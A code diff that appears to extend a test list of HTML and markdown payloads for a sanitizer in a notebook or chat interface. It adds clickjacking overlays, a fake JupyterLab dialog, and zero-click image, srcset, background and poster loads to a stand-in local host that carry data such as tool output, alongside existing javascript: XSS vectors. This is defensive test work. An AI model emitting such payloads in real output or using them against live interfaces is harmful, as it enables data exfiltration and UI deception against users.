@@ -36,4 +36,16 @@ PAYLOADS = [
     '<a href="data:text/html,<script>alert(1)</script>">data link</a>',
     "<base href=\"javascript:window.__pwned++//\">",
     "<svg><a xlink:href=\"javascript:window.__pwned++\"><text y=20>svg link</text></a></svg>",
+    # issue 13: what draws outside the message's box, imitates the UI, loads without a click, navigates
+    '<svg width="1" height="1" overflow="visible" style="position:fixed;top:0;left:0" pointer-events="all">'
+    '<rect x="-5000" y="-5000" width="20000" height="20000" fill="red" opacity="0.01"/></svg>',
+    '<div class="jp-Dialog" id="approve">fake JupyterLab dialog</div>',
+    "![remote](http://127.0.0.1:9/leak?d=tool-output)",
+    '<img srcset="http://127.0.0.1:9/leak 1x" alt="srcset">',
+    '<table background="http://127.0.0.1:9/leak"><tr><td>bg</td></tr></table>',
+    '<video poster="http://127.0.0.1:9/leak"></video>',
+    '<map name="m"><area shape="default" href="http://127.0.0.1:9/navigate"></map>',
+    '<svg><a href="http://127.0.0.1:9/navigate"><text y="20">svg link</text></a></svg>',
+    '<a href="http://127.0.0.1:9/navigate" target="_self">same tab</a>',
+    "<math><mi>x</mi></math>",
 ]
